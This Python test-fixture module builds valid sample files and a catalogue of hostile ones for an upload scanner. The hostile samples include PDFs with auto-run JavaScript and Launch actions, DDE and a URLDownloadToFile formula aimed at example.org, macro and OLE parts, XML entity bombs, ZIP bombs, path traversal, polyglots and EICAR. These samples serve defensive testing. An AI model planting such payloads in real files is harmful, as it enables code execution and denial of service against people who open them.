"""Files made in code: one in order of every kind, and what hostile people hand in. No file of these lies in the project."""

from __future__ import annotations

import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from io import BytesIO
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image

from consult.attachments.kinds import EICAR

_XML = '<?xml version="1.0" encoding="UTF-8"?>\n'
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PERSON = "Salma Author"
_XMP = (
    '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    f'<rdf:Description rdf:about="" xmlns:p="http://ns.adobe.com/pdf/1.3/"><p:Keywords>{PERSON}</p:Keywords>'
    "</rdf:Description></rdf:RDF></x:xmpmeta>"
)
WORDS = "سجل بلدي لبيانات الهجرة"


def zipped(parts: Mapping[str, bytes | str], **more: bytes | str) -> bytes:
    """Return a ZIP of these parts."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {**parts, **more}.items():
            archive.writestr(name, content)
    return out.getvalue()


def docx_parts(body: str = f"<w:p><w:r><w:t>{WORDS}</w:t></w:r></w:p>") -> dict[str, bytes | str]:
    """Return the parts of a Word document."""
    return {
        "[Content_Types].xml": _XML
        + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        "_rels/.rels": relations(),
        "word/document.xml": _XML
        + f'<w:document xmlns:w="{_W}"><w:body>{body}<w:p><w:ins w:author="{PERSON}"/></w:p></w:body></w:document>',
        "docProps/core.xml": _XML
        + f'<cp:coreProperties xmlns:cp="x:c" xmlns:dc="x:d"><dc:creator>{PERSON}</dc:creator></cp:coreProperties>',
    }


def relations(kind: str = "", target: str = "") -> str:
    """Return relations, one of them to what is outside where a target is given."""
    one = f'<Relationship Id="r9" Type="{_OFFICE}/{kind}" Target="{target}" TargetMode="External"/>' if target else ""
    return _XML + f'<Relationships xmlns="{_RELATIONS}">{one}</Relationships>'


def xlsx_parts(cell: str = "<c><v>42</v></c>") -> dict[str, bytes | str]:
    """Return the parts of a workbook with one row."""
    return {
        "[Content_Types].xml": _XML
        + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
        "xl/workbook.xml": _XML + f'<workbook xmlns="{_S}"><sheets/></workbook>',
        "xl/worksheets/sheet1.xml": _XML
        + f'<worksheet xmlns="{_S}"><sheetData><row>{cell}<c><is><t>{WORDS}</t></is></c></row></sheetData></worksheet>',
        "docProps/core.xml": _XML + f'<cp:coreProperties xmlns:cp="x:c"><cp:by>{PERSON}</cp:by></cp:coreProperties>',
    }


def odt_parts(body: str = f"<text:p>{WORDS}</text:p>") -> dict[str, bytes | str]:
    """Return the parts of an OpenDocument text."""
    return {
        "mimetype": "application/vnd.oasis.opendocument.text",
        "content.xml": _XML
        + '<office:document-content xmlns:office="x:o" xmlns:text="x:t" xmlns:draw="x:d" xmlns:xlink="x:l" xmlns:script="x:s" '
        f'xmlns:dc="x:c"><office:body><dc:creator>{PERSON}</dc:creator>{body}</office:body></office:document-content>',
        "meta.xml": _XML + f'<m xmlns:meta="x:m"><meta:initial-creator>{PERSON}</meta:initial-creator></m>',
        "META-INF/manifest.xml": _XML + '<manifest:manifest xmlns:manifest="x:m"/>',
    }


def pdf(change: Callable[[pikepdf.Pdf], object] = lambda pdf: None, **saving: Any) -> bytes:
    """Return a PDF of one page with a few Latin words, changed by a function."""
    made = pikepdf.new()
    page = made.add_blank_page(page_size=(300, 300))
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
    page.obj.Contents = made.make_stream(b"BT /F1 24 Tf 20 100 Td (Municipal register) Tj ET")
    made.docinfo["/Author"] = String(PERSON)
    made.Root.Metadata = made.make_stream(_XMP.encode())
    change(made)
    out = BytesIO()
    made.save(out, **saving)
    return out.getvalue()


def picture(kind: str = "JPEG", *, size: tuple[int, int] = (64, 48), place: bool = True, **saving: Any) -> bytes:
    """Return a picture with the place where it was taken, and a name, in its metadata."""
    exif = Image.Exif()
    exif[0x013B] = PERSON
    if place:
        exif.get_ifd(0x8825)[1], exif.get_ifd(0x8825)[2] = "N", (32.0, 53.0, 0.0)
    out = BytesIO()
    Image.new("RGB", size, (40, 110, 120)).save(out, kind, exif=exif.tobytes(), **saving)
    return out.getvalue()


def huge_png(width: int = 50_000, height: int = 50_000) -> bytes:
    """Return a PNG of a few bytes that declares very many pixels."""

    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(3000))) + chunk(b"IEND", b"")
    )


def wav(seconds: int = 1, more: bytes = b"") -> bytes:
    """Return a second of silence with the name of who recorded it."""
    sound = bytes(8000 * seconds)
    form = struct.pack("<4sIHHIIHH", b"fmt ", 16, 1, 1, 8000, 8000, 1, 8)
    name = PERSON.encode() + b"  "[: len(PERSON) % 2]
    words = b"LIST" + struct.pack("<I", 12 + len(name)) + b"INFOIART" + struct.pack("<I", len(name)) + name
    inside = b"WAVE" + form + words + b"data" + struct.pack("<I", len(sound)) + sound + more
    return b"RIFF" + struct.pack("<I", len(inside)) + inside


def mp3(frames: int = 40) -> bytes:
    """Return silence as MP3 (MPEG 1, layer 3, 128 kbit/s, 44.1 kHz) with a name in its tags."""
    frame = b"\xff\xfb\x90\x00" + bytes(413)
    name = b"\x03" + PERSON.encode()
    tag = b"TPE1" + struct.pack(">I", len(name)) + b"\0\0" + name
    head = b"ID3\x03\0\0" + bytes([0, 0, len(tag) >> 7, len(tag) & 127]) + tag
    old = (b"TAG" + b"title".ljust(30, b"\0") + PERSON.encode().ljust(30, b"\0")).ljust(128, b"\0")
    return head + frame * frames + old


def box(name: bytes, *parts: bytes) -> bytes:
    """Return a box of an MP4 file."""
    content = b"".join(parts)
    return struct.pack(">I", 8 + len(content)) + name + content


def m4a(handler: bytes = b"soun") -> bytes:
    """Return an MP4 of one track without samples, with a name in its words."""
    length = struct.pack(">IIIIIHH", 0, 0, 0, 8000, 8000, 0, 0)
    track = box(
        b"trak",
        box(
            b"mdia",
            box(b"mdhd", length),
            box(b"hdlr", bytes(8) + handler + bytes(12) + PERSON.encode() + b"\0"),
            box(b"minf", box(b"stbl", box(b"stsd", bytes(8)))),
        ),
    )
    head = box(b"mvhd", bytes(12) + struct.pack(">II", 1000, 1000) + bytes(80))
    words = box(b"udta", PERSON.encode())
    return box(b"ftyp", b"M4A \0\0\0\0") + box(b"moov", head, track, words) + box(b"mdat", bytes(100))


def ogg() -> bytes:
    """Return an Opus file of half a second with a name in its words."""
    head = b"OpusHead" + struct.pack("<BBHIhB", 1, 1, 0, 48000, 0, 0)
    word = b"ARTIST=" + PERSON.encode()
    tags = b"OpusTags" + struct.pack("<I", 4) + b"none" + struct.pack("<II", 1, len(word)) + word
    return _page(0, 2, 0, head) + _page(1, 0, 0, tags) + _page(2, 4, 24_000, b"\xf8\xff\xfe" * 20)


def _page(number: int, flags: int, position: int, packet: bytes) -> bytes:
    sizes = [255] * (len(packet) // 255) + [len(packet) % 255]
    page = struct.pack("<4sBBqIIIB", b"OggS", 0, flags, position, 7, number, 0, len(sizes)) + bytes(sizes) + packet
    return page[:22] + struct.pack("<I", _ogg_sum(page)) + page[26:]


def _ogg_sum(page: bytes) -> int:
    value = 0
    for byte in page:
        value ^= byte << 24
        for _ in range(8):
            value = ((value << 1) ^ (0x04C11DB7 if value & 0x80000000 else 0)) & 0xFFFFFFFF
    return value


def good_files() -> dict[str, bytes]:
    """Return a file in order of every kind, by the ending of its name; each carries the name of a person."""
    return {
        "pdf": pdf(),
        "docx": zipped(docx_parts()),
        "xlsx": zipped(xlsx_parts()),
        "odt": zipped(odt_parts()),
        "jpg": picture(),
        "png": picture("PNG"),
        "webp": picture("WEBP"),
        "mp3": mp3(),
        "ogg": ogg(),
        "m4a": m4a(),
        "wav": wav(),
    }


def _pdf_with(**root: Any) -> bytes:
    return pdf(lambda made: made.Root.update(Dictionary(**root)) if hasattr(made.Root, "update") else _set(made, root))


def _set(made: pikepdf.Pdf, root: Mapping[str, Any]) -> None:
    for name, value in root.items():
        made.Root[f"/{name}"] = value


def _attach(made: pikepdf.Pdf) -> None:
    made.attachments["x.txt"] = b"inside"


def _act(kind: str, **more: Any) -> Dictionary:
    return Dictionary(S=Name(f"/{kind}"), **more)


def hostile_pdfs() -> dict[str, bytes]:
    """Return PDFs that are not taken, by what is wrong with them."""
    script = _act("JavaScript", JS=String("app.alert(1)"))
    bomb = zlib.compress(zlib.compress(bytes(10_000_000)))

    def stream(content: bytes, filters: Any) -> Callable[[pikepdf.Pdf], object]:
        return lambda made: _set(made, {"Extra": Stream(made, content, Filter=filters)})

    whole = pdf()
    return {
        "JavaScript": _pdf_with(OpenAction=script),
        "JavaScript by name": _pdf_with(Names=Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))),
        "JavaScript deep": _pdf_with(Deep=Array([Array([Dictionary(Next=Array([script]))])])),
        "launch": _pdf_with(OpenAction=_act("Launch", F=String("calc.exe"))),
        "form sent": _pdf_with(OpenAction=_act("SubmitForm", F=String("https://example.org"))),
        "remote": _pdf_with(OpenAction=_act("GoToR", F=String("\\\\server\\share"))),
        "XFA": _pdf_with(AcroForm=Dictionary(XFA=String("<x/>"))),
        "file inside": pdf(_attach),
        "encrypted": pdf(encryption=pikepdf.Encryption(owner="o", user="u")),
        "encrypted for writing": pdf(encryption=pikepdf.Encryption(owner="o", user="")),
        "truncated": whole[: len(whole) // 2],
        "only a head": b"%PDF-1.7\n",
        "and ZIP": whole + zipped({"a.class": b"x"}),
        "and HTML": whole + b"<script>alert(1)</script>",
        "ZIP before the end": whole.replace(b"%%EOF", zipped({"a.class": b"x"}) + b"%%EOF"),
        "EICAR": pdf(lambda made: _set(made, {"Extra": Stream(made, EICAR)}), compress_streams=False),
        "EICAR packed": pdf(stream(zlib.compress(EICAR), Name.FlateDecode)),
        "packed twice": pdf(stream(bomb, Array([Name.FlateDecode, Name.FlateDecode]))),
        "bomb": pdf(stream(zlib.compress(bytes(80 * 2**20), 9), Name.FlateDecode)),
        "huge picture": pdf(
            lambda made: _set(made, {"X": Stream(made, b"", Subtype=Name.Image, Width=50_000, Height=50_000)})
        ),
    }


def _lying_zip() -> bytes:
    """Return a document whose directory says that a large part is small."""
    whole = zipped(docx_parts(), **{"word/big.xml": bytes(3_000_000)})
    return whole.replace(struct.pack("<I", 3_000_000), struct.pack("<I", 100))


def hostile_archives() -> dict[str, bytes]:
    """Return documents that are not taken, by what is wrong with them."""
    docx, xlsx, odt = docx_parts(), xlsx_parts(), odt_parts()
    good = zipped(docx)
    entities = f'<!DOCTYPE w [<!ENTITY a "{"a" * 50}"><!ENTITY b "{"&a;" * 50}">]>'
    field = "<w:p><w:r><w:fldChar/></w:r><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd</w:instrText></w:r></w:p>"

    def formula(text: str) -> bytes:
        return zipped(xlsx_parts(f"<c><f>{text}</f><v>1</v></c>"))

    macro = str(docx["[Content_Types].xml"]).replace(
        "wordprocessingml.document.main", "ms-word.document.macroEnabled.main"
    )
    return {
        "macro": zipped(docx, **{"word/vbaProject.bin": b"x"}),
        "macro in another folder": zipped(docx, **{"word/VBAPROJECT.BIN": b"x"}),
        "macro document renamed": zipped({**docx, "[Content_Types].xml": macro}),
        "xlsm renamed": zipped(xlsx, **{"xl/vbaProject.bin": b"x"}),
        "macro sheet of Excel 4": zipped(xlsx, **{"xl/macrosheets/sheet1.xml": "<a/>"}),
        "ActiveX": zipped(docx, **{"word/activeX/activeX1.xml": "<a/>"}),
        "OLE": zipped(docx, **{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
        "OLE under another name": zipped(docx, **{"word/media/image1.dat": b"\xd0\xcf\x11\xe0\xa1\xb1"}),
        "program inside": zipped(docx, **{"word/media/image1.png": b"MZ\x90"}),
        "archive inside": zipped(docx, **{"word/media/x.dat": zipped({"a": b"a"})}),
        "template from elsewhere": zipped(
            docx, **{"word/_rels/settings.xml.rels": relations("attachedTemplate", "https://example.org/a.dotm")}
        ),
        "picture from elsewhere": zipped(
            docx, **{"word/_rels/document.xml.rels": relations("image", "https://example.org/a.png")}
        ),
        "link to a file": zipped(
            docx, **{"word/_rels/document.xml.rels": relations("hyperlink", "file:///c:/windows/a.exe")}
        ),
        "frame": zipped(docx, **{"word/_rels/document.xml.rels": relations("frame", "https://example.org")}),
        "DDE in a field": zipped(docx_parts(field)),
        "DDE in a simple field": zipped(docx_parts('<w:fldSimple w:instr=" DDEAUTO c:\\\\cmd "/>')),
        "text included": zipped(docx_parts('<w:fldSimple w:instr="INCLUDETEXT x"/>')),
        "DDE in a cell": formula("cmd|'/c calc'!A0"),
        "another workbook": formula("[1]Sheet1!A1"),
        "web service": formula('WEBSERVICE("https://example.org/"&amp;A1)'),
        "link in a formula": formula('HYPERLINK("https://example.org/"&amp;A1,"click")'),
        "call": formula('CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"https://example.org")'),
        "external link part": zipped(xlsx, **{"xl/externalLinks/externalLink1.xml": "<a/>"}),
        "connection": zipped(xlsx, **{"xl/connections.xml": "<a/>"}),
        "entities": zipped({**docx, "word/document.xml": f"{_XML}{entities}<w>&b;</w>"}),
        "entities in UTF-16": zipped({**docx, "word/document.xml": f"{entities}<w>&b;</w>".encode("utf-16")}),
        "entities in metadata": zipped({**docx, "docProps/core.xml": f"{_XML}{entities}<w>&b;</w>"}),
        "broken XML": zipped({**docx, "word/document.xml": "<w>"}),
        "ODT macro": zipped(odt, **{"Basic/Standard/Module1.xml": "<a/>"}),
        "ODT script": zipped(odt, **{"Scripts/python/a.py": "import os"}),
        "ODT event": zipped(odt_parts('<script:event-listener script:language="ooo:script"/>')),
        "ODT object": zipped(odt, **{"Object 1/content.xml": "<a/>"}),
        "ODT section from a file": zipped(odt_parts('<text:section-source xlink:href="../a.odt"/>')),
        "ODT picture from elsewhere": zipped(odt_parts('<draw:image xlink:href="https://example.org/a.png"/>')),
        "ODT macro link": zipped(odt_parts('<text:a xlink:href="vnd.sun.star.script:a.b">x</text:a>')),
        "ODT DDE": zipped(odt_parts("<text:dde-connection/>")),
        "ODT encrypted": zipped({**odt, "META-INF/manifest.xml": f"{_XML}<m:encryption-data xmlns:m='x:m'/>"}),
        "ODS called ODT": zipped({**odt, "mimetype": "application/vnd.oasis.opendocument.spreadsheet"}),
        "ratio": zipped(docx, **{"word/big.xml": bytes(20_000_000)}),
        "too much": zipped(
            docx, **{f"word/media/{n}.dat": bytes(n) * 0 + bytes(range(256)) * 90_000 for n in range(5)}
        ),
        "many parts": zipped(docx, **{f"word/{n}.xml": b"" for n in range(2_500)}),
        "lying directory": _lying_zip(),
        "something before": b"#!/bin/sh\n" + good,
        "ZIP before a ZIP": zipped({"a": b"a"}) + good,
        "something after": good + b"<script>",
        "comment": _commented(good),
        "truncated": good[: len(good) // 2],
        "path outside": zipped(docx, **{"../../evil.xml": "<a/>"}),
        "two of one name": _doubled(docx),
        "encrypted": _flagged(good),
        "EICAR": zipped(docx, **{"word/media/a.dat": EICAR}),
        "EICAR in a workbook": zipped(xlsx, **{"xl/media/a.dat": EICAR}),
        "EICAR in ODT": zipped(odt, **{"Pictures/a.dat": EICAR}),
        "plain ZIP": zipped({"a.txt": "a"}),
        "ZIP of ZIPs": zipped({"a.zip": zipped({"b.zip": zipped({"c": bytes(1_000_000)})})}),
        "ODS": zipped({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": "<a/>"}),
        "picture of 50,000 by 50,000": zipped(docx, **{"word/media/image1.png": huge_png()}),
    }


def _commented(whole: bytes) -> bytes:
    return whole[:-2] + struct.pack("<H", 8) + b"<script>"


def _flagged(whole: bytes) -> bytes:
    at = whole.index(b"PK\x01\x02")
    return whole[: at + 8] + b"\x01\x00" + whole[at + 10 :]


def _doubled(parts: Mapping[str, bytes | str]) -> bytes:
    return zipped(parts, **{"Word/Document.xml": "<a/>"})


def hostile_others() -> dict[str, bytes]:
    """Return pictures, sounds and other things that are not taken."""
    jpeg, png, moving = picture(), picture("PNG"), BytesIO()
    frames = [Image.new("RGB", (8, 8), colour) for colour in ("red", "blue")]
    frames[0].save(moving, "PNG", save_all=True, append_images=frames[1:])
    gif = BytesIO()
    frames[0].save(gif, "GIF")
    return {
        "empty": b"",
        "nothing known": b"hello",
        "text": "نص".encode(),
        "HTML": b"<!doctype html><script>alert(1)</script>",
        "SVG": b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>',
        "program": b"MZ\x90\x00",
        "Word of 1997": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        "RTF": b"{\\rtf1}",
        "GIF": gif.getvalue(),
        "GIF and JAR": gif.getvalue() + zipped({"a.class": b"x"}),
        "JPEG and JAR": jpeg + zipped({"a.class": b"x"}),
        "JPEG and PHP": jpeg[:2] + b"\xff\xfe\x00\x10<?php x();  ?" + jpeg[2:],
        "PNG and HTML": png + b"<ScRiPt>alert(1)</script>",
        "PNG and ZIP": png + zipped({"a": b"a"}),
        "JPEG and PDF": jpeg[:2] + b"\xff\xfe\x00\x0a%PDF-1.7" + jpeg[2:],
        "JPEG truncated": jpeg[: len(jpeg) // 2],
        "PNG truncated": png[: len(png) // 2],
        "JPEG without anything": b"\xff\xd8\xff",
        "moving": moving.getvalue(),
        "50,000 by 50,000": huge_png(),
        "JPEG of 50,000 by 50,000": _declared(jpeg),
        "MP3 without sound": b"ID3\x03\0\0\0\0\0\0",
        "MP3 and ZIP": mp3() + zipped({"a": b"a"}),
        "WAV truncated": wav()[:200],
        "WAV and ZIP": wav() + zipped({"a": b"a"}),
        "film called M4A": m4a(b"vide"),
        "M4A truncated": m4a()[:60],
        "M4A deep": box(b"ftyp", b"M4A \0\0\0\0") + _deep(),
        "OGG truncated": ogg()[:50],
        **{f"EICAR in {name}": _with_virus(name) for name in ("jpg", "png", "webp", "mp3", "ogg", "m4a", "wav")},
        "EICAR": EICAR,
        "EICAR packed": zipped({"eicar.com": EICAR}),
    }


def _with_virus(name: str) -> bytes:
    if name in ("jpg", "png", "webp"):
        form = {"jpg": "JPEG", "png": "PNG", "webp": "WEBP"}[name]
        return picture(form) + EICAR
    return good_files()[name] + EICAR


def _deep() -> bytes:
    inner = b""
    for _ in range(40):
        inner = box(b"moov", inner)
    return inner


def _declared(jpeg: bytes) -> bytes:
    """Return a JPEG whose head says 50,000 by 50,000."""
    at = next(jpeg.index(mark) for mark in (b"\xff\xc0", b"\xff\xc2") if mark in jpeg)
    return jpeg[: at + 5] + struct.pack(">HH", 50_000, 50_000) + jpeg[at + 9 :]
